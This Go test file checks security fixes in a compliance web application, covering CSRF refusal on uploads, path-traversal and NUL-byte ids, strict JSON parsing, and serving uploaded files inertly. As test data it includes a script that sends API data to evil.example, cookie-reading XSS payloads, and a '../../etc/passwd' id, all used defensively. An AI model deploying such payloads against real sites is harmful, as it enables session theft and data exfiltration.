package web_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"ward/internal/store"
	"ward/internal/store/storetest"
	"ward/internal/web/controls"
	"ward/internal/web/kit"
	"ward/internal/web/webtest"
	"ward/internal/workspace"
)

// countFiles is how many files are under dir (0 when it does not exist).
func countFiles(t *testing.T, dir string) int {
	t.Helper()
	n := 0
	filepath.WalkDir(dir, func(_ string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			n++
		}
		return nil
	})
	return n
}

// bigUpload is a multipart body: fields in order, then one file of size
// bytes of b.
func bigUpload(fields [][2]string, name string, size int, b byte) (io.Reader, string) {
	var head bytes.Buffer
	mw := multipart.NewWriter(&head)
	for _, f := range fields {
		mw.WriteField(f[0], f[1])
	}
	mw.CreateFormFile("file", name)
	boundary := mw.Boundary()
	tail := "\r\n--" + boundary + "--\r\n"
	return io.MultiReader(&head, io.LimitReader(repeat(b), int64(size)), strings.NewReader(tail)), mw.FormDataContentType()
}

type repeat byte

func (r repeat) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

// TestUploadsLeaveNothingBehind is issue 20's finding 17: every upload
// over 32 MiB left its whole body in the temporary folder for good, even
// when it was refused for a bad CSRF token (which left no audit entry
// either), and the same bytes uploaded again under another name answered
// 500.
func TestUploadsLeaveNothingBehind(t *testing.T) {
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp) // where net/http would spill a multipart body
	e := webtest.NewEnv(t, kit.Config{})
	e.SeedDemo()
	ed := e.Users[store.RoleEditor]
	c, csrf := e.Login(ed)
	const path = "/orgs/alpha/controls/vulnerability-scanning/evidence"
	blobTmp := filepath.Join(e.Store.BlobFolder().Dir(), "tmp")
	send := func(body io.Reader, ct string) webtest.Response {
		req, _ := http.NewRequest("POST", e.HTTP.URL+path, body)
		req.Header.Set("Content-Type", ct)
		return e.Send(c, req)
	}
	const size = 33 << 20

	// A wrong token, and a missing one (the file comes first): refused,
	// nothing on disk, and on the accounts' trail.
	body, ct := bigUpload([][2]string{{"csrf", "wrong"}, {"collected", "2026-10-15"}}, "scan.bin", size, 'a')
	if r := send(body, ct); r.StatusCode != http.StatusForbidden {
		t.Fatalf("wrong CSRF token: %d", r.StatusCode)
	}
	body, ct = bigUpload(nil, "scan.bin", size, 'a')
	if r := send(body, ct); r.StatusCode != http.StatusForbidden {
		t.Fatalf("no CSRF token: %d", r.StatusCode)
	}
	if n := countFiles(t, tmp) + countFiles(t, blobTmp); n != 0 {
		t.Errorf("%d temporary files left after refused uploads", n)
	}
	blobsBefore := countFiles(t, e.Store.BlobFolder().Dir())
	log, _ := e.Store.AccountLog(context.Background(), ed.Email, 5, 0)
	if len(log) == 0 || log[0].Action != "csrf.refused" || !strings.Contains(string(log[0].Data), "/controls/{id}/evidence") {
		t.Errorf("the refused upload is not on the accounts' trail: %+v", log)
	}

	// A good upload of 33 MiB is streamed to the blob store: no
	// temporary file stays anywhere.
	body, ct = bigUpload([][2]string{{"csrf", csrf}, {"collected", "2026-10-15"}}, "scan.bin", size, 'b')
	r := send(body, ct)
	if r.StatusCode != http.StatusSeeOther {
		t.Fatalf("33 MiB upload: %d %.300s", r.StatusCode, r.Body)
	}
	if n := countFiles(t, tmp) + countFiles(t, blobTmp); n != 0 {
		t.Errorf("%d temporary files left after an upload", n)
	}
	if got := countFiles(t, e.Store.BlobFolder().Dir()); got != blobsBefore+1 {
		t.Errorf("blobs %d → %d, want one more", blobsBefore, got)
	}
	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
	before := len(ws.Evidence)

	// The same bytes under another name: no 500, nothing stored twice.
	body, ct = bigUpload([][2]string{{"csrf", csrf}, {"collected", "2026-10-15"}}, "scan-copy.bin", size, 'b')
	r = send(body, ct)
	if r.StatusCode != http.StatusSeeOther || !strings.Contains(r.Header.Get("Location"), "existing=1") {
		t.Fatalf("the same bytes again: %d %q %.300s", r.StatusCode, r.Header.Get("Location"), r.Body)
	}
	if page := e.Get(c, r.Header.Get("Location")); !strings.Contains(page.Body, "already") {
		t.Errorf("the control page does not say the file was already there")
	}
	ws, _ = e.Store.Org(e.OrgA).Workspace(context.Background())
	if len(ws.Evidence) != before {
		t.Errorf("evidence %d → %d, want the same item", before, len(ws.Evidence))
	}

	// A request that is not an upload is held to 1 MiB.
	req, _ := http.NewRequest("POST", e.HTTP.URL+"/api/v1/orgs/alpha/systems", strings.NewReader(`{"id":"x","kind":"service","description":"`+strings.Repeat("d", 2<<20)+`"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(kit.CSRFHeader, csrf)
	if r := e.Send(c, req); r.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("a 2 MiB record: %d, want 413", r.StatusCode)
	}
}

// TestLongUploadNameExports is finding 15: a 5,000-character file name
// made ward export fail for the organization for good, leaving a
// half-written folder. The name is made safe once, at upload.
func TestLongUploadNameExports(t *testing.T) {
	t.Parallel()
	e := webtest.NewEnv(t, kit.Config{})
	if _, err := e.Store.Org(e.OrgA).Put(context.Background(), "test", store.KindControl, "vulnerability-scanning",
		workspace.Control{ID: "vulnerability-scanning", Status: "implemented", Frequency: "monthly"}); err != nil {
		t.Fatal(err)
	}
	c, csrf := e.Login(e.Users[store.RoleEditor])
	name := strings.Repeat("quarterly-review-", 300) + ".pdf"
	r := e.Upload(c, "/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"csrf": csrf, "collected": "2026-10-15"},
		[][2]string{{name, "%PDF-1.4 scan"}}, nil)
	if r.StatusCode != http.StatusSeeOther {
		t.Fatalf("upload: %d %.300s", r.StatusCode, r.Body)
	}
	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
	var file string
	for _, ev := range ws.Evidence {
		if strings.Contains(ev.File, "quarterly-review-") {
			file = ev.File
		}
	}
	if base := filepath.Base(file); len(base) > 140 || !strings.HasSuffix(base, ".pdf") {
		t.Errorf("stored name %q: want at most 120 characters after the hash, keeping .pdf", base)
	}
	out := t.TempDir()
	if err := workspace.Write(out, ws, workspace.WriteOptions{Blob: e.Store.Blobs().Open}); err != nil {
		t.Fatalf("export: %v", err)
	}
	if _, err := workspace.Load(out, workspace.Options{}); err != nil {
		t.Errorf("the export does not load: %v", err)
	}
}

// TestNULIdRefusedOnBothEngines is finding 16 through the API: an id with
// a NUL byte was accepted on SQLite and answered 500 on PostgreSQL. Both
// answer 422 naming the field.
func TestNULIdRefusedOnBothEngines(t *testing.T) {
	for _, eng := range storetest.Engines() {
		t.Run(eng.Name, func(t *testing.T) {
			e := webtest.NewEnvAt(t, kit.Config{}, eng.URL(t))
			c, csrf := e.Login(e.Users[store.RoleEditor])
			for path, body := range map[string]string{
				"/api/v1/orgs/alpha/systems":   `{"id":"patient\u0000api","kind":"service"}`,
				"/api/v1/orgs/alpha/vendors":   `{"id":"../../etc/passwd"}`,
				"/api/v1/orgs/alpha/customers": `{"id":"st marys\r\n"}`,
			} {
				req, _ := http.NewRequest("POST", e.HTTP.URL+path, strings.NewReader(body))
				req.Header.Set("Content-Type", "application/json")
				req.Header.Set(kit.CSRFHeader, csrf)
				r := e.Send(c, req)
				if r.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(r.Body, `"id"`) {
					t.Errorf("POST %s %s: %d, want 422 naming id\n%.300s", path, body, r.StatusCode, r.Body)
				}
			}
			if n, _ := e.Store.Org(e.OrgA).Counts(context.Background()); n[store.KindSystem] != 2 {
				t.Errorf("%d systems, want the 2 seeded", n[store.KindSystem])
			}
		})
	}
}

// TestAPIStrictJSON is finding 18 on the API: trailing garbage and
// duplicate keys were accepted, invalid UTF-8 silently altered. Every
// JSON body is now read strictly, and the answer says where it stops.
func TestAPIStrictJSON(t *testing.T) {
	t.Parallel()
	e := webtest.NewEnv(t, kit.Config{})
	e.SeedDemo()
	c, csrf := e.Login(e.Users[store.RoleEditor])
	for _, tc := range []struct{ method, path, body, says string }{
		{"POST", "/api/v1/orgs/alpha/vendors", `{"id":"acme-x"}{"id":"evil"}`, "data after the JSON value"},
		{"POST", "/api/v1/orgs/alpha/vendors", `{"id":"acme-x"} trailing`, "data after the JSON value"},
		{"POST", "/api/v1/orgs/alpha/vendors", `{"id":"acme-x","id":"evil"}`, `key \"id\" is given twice`},
		{"POST", "/api/v1/orgs/alpha/vendors", "{\"id\":\"acme-x\",\"name\":\"caf\xe9\"}", "at byte 26: not valid UTF-8"},
		{"POST", "/api/v1/orgs/alpha/incidents", `{"id":"inc-x","discovered":"2027-05-01","summary":"x","summary":"y"}`, "given twice"},
		{"POST", "/api/v1/orgs/alpha/risks", `{"id":"r-x"} x`, "data after the JSON value"},
		{"POST", "/api/v1/orgs/alpha/controls/access-review", `{"status":"implemented"}]`, "data after the JSON value"},
	} {
		req, _ := http.NewRequest(tc.method, e.HTTP.URL+tc.path, strings.NewReader(tc.body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set(kit.CSRFHeader, csrf)
		r := e.Send(c, req)
		if r.StatusCode < 400 || r.StatusCode >= 500 || !strings.Contains(r.Body, tc.says) {
			t.Errorf("%s %s %q: %d, want 4xx saying %q\n%.300s", tc.method, tc.path, tc.body, r.StatusCode, tc.says, r.Body)
		}
	}
	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
	if ws.Vendor("acme-x") != nil || ws.Vendor("evil") != nil {
		t.Error("a refused body was stored")
	}
}

// TestUploadFormsSendTheTokenFirst: an upload's CSRF token must come
// before its files (ValidCSRF reads it before a byte of a file), and a
// browser sends fields in the order of the form.
func TestUploadFormsSendTheTokenFirst(t *testing.T) {
	files, _ := fs.Glob(kit.TemplateFS, "templates/*.html")
	n := 0
	for _, f := range files {
		b, _ := fs.ReadFile(kit.TemplateFS, f)
		for _, form := range regexp.MustCompile(`(?s)<form[^>]*multipart/form-data.*?</form>`).FindAll(b, -1) {
			n++
			first := regexp.MustCompile(`<input[^>]*>`).Find(form)
			if !bytes.Contains(first, []byte(`name="csrf"`)) {
				t.Errorf("%s: a multipart form's first input is %s, want the csrf token", f, first)
			}
		}
	}
	if n == 0 {
		t.Fatal("no upload form found")
	}
}

// TestNoAuditWritesFromGET is finding 9's last item: GET requests wrote
// audit entries, so a page on another site could make an auditor's
// browser add entries. Every GET route, called by an admin with real ids
// where a download needs them, leaves the organization's trail and the
// accounts' trail as they were; the downloads are POSTs.
func TestNoAuditWritesFromGET(t *testing.T) {
	t.Parallel()
	e := webtest.NewEnv(t, kit.Config{})
	e.SeedDemo()
	admin := e.Users[store.RoleAdmin]
	c, csrf := e.Login(admin)
	r := e.Upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-15"},
		[][2]string{{"scan.txt", "scan\n"}}, map[string]string{"X-CSRF-Token": csrf})
	var res controls.UploadResult
	if r.StatusCode != http.StatusCreated || json.Unmarshal([]byte(r.Body), &res) != nil || len(res.Added) != 1 {
		t.Fatalf("upload: %d %s", r.StatusCode, r.Body)
	}
	ws, _ := e.Store.Org(e.OrgA).Workspace(context.Background())
	real := map[string]string{"format": "csv", "kind": "ssp", "fw": "soc2"}
	ids := map[string]string{"evidence": res.Added[0].ID, "agreements": ws.Agreements[0].ID, "systems": ws.Systems[0].ID,
		"risks": ws.Risks[0].ID, "incidents": ws.Incidents[0].ID, "controls": "vulnerability-scanning"}
	heads := func() string {
		h, _ := e.Store.Org(e.OrgA).AuditHead(context.Background())
		a, _ := e.Store.AccountHead(context.Background())
		return fmt.Sprint(h, a)
	}
	for _, rt := range kit.Routes() {
		if rt.Method != http.MethodGet || rt.Role == kit.Public {
			continue
		}
		path := webtest.Wildcard.ReplaceAllStringFunc(strings.ReplaceAll(rt.Pattern, "{$}", ""), func(w string) string {
			name := webtest.Wildcard.FindStringSubmatch(w)[1]
			switch {
			case name == "org":
				return webtest.SlugA
			case real[name] != "":
				return real[name]
			case name == "id":
				for section, id := range ids {
					if strings.Contains(rt.Pattern, "/"+section+"/") {
						return url.PathEscape(id)
					}
				}
			}
			return "sample"
		})
		before := heads()
		resp := e.Get(c, path)
		if after := heads(); after != before {
			t.Errorf("GET %s (%d) wrote to a trail: %s → %s", path, resp.StatusCode, before, after)
		}
	}
	// And the downloads themselves are recorded when POSTed.
	before := heads()
	if r := e.Fetch(c, csrf, "/orgs/alpha/evidence/"+res.Added[0].ID+"/file"); r.StatusCode != 200 {
		t.Fatalf("download: %d", r.StatusCode)
	}
	if heads() == before {
		t.Error("the POSTed download was not recorded")
	}
}

// TestUploadedFilesServedInert is finding 9's fourth item: an uploaded
// .js file was served as a same-origin script. Only images and PDF (and
// documents a browser never runs) keep their type; everything else is
// served as bytes, as an attachment, sandboxed.
func TestUploadedFilesServedInert(t *testing.T) {
	t.Parallel()
	e := webtest.NewEnv(t, kit.Config{})
	e.SeedDemo()
	c, csrf := e.Login(e.Users[store.RoleEditor])
	files := [][2]string{
		{"steal.js", "fetch('/api/v1/orgs').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))"},
		{"page.html", "<script>alert(document.cookie)</script>"},
		{"logo.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
		{"scan.png", "\x89PNG\r\n\x1a\n...."},
		{"report.pdf", "%PDF-1.4 ..."},
	}
	r := e.Upload(c, "/api/v1/orgs/alpha/controls/vulnerability-scanning/evidence", map[string]string{"collected": "2026-10-16"}, files, map[string]string{"X-CSRF-Token": csrf})
	var res controls.UploadResult
	if r.StatusCode != http.StatusCreated || json.Unmarshal([]byte(r.Body), &res) != nil || len(res.Added) != len(files) {
		t.Fatalf("upload: %d %s", r.StatusCode, r.Body)
	}
	au, atok := e.Login(e.Users[store.RoleAuditor])
	want := map[string]string{".js": "application/octet-stream", ".html": "application/octet-stream", ".svg": "application/octet-stream",
		".png": "image/png", ".pdf": "application/pdf"}
	for _, ev := range res.Added {
		dl := e.Fetch(au, atok, "/orgs/alpha/evidence/"+ev.ID+"/file")
		ext := filepath.Ext(ev.File)
		if got := dl.Header.Get("Content-Type"); got != want[ext] {
			t.Errorf("%s served as %q, want %q", ev.File, got, want[ext])
		}
		if !strings.HasPrefix(dl.Header.Get("Content-Disposition"), "attachment;") || dl.Header.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.Contains(dl.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: headers %v", ev.File, dl.Header)
		}
	}
}
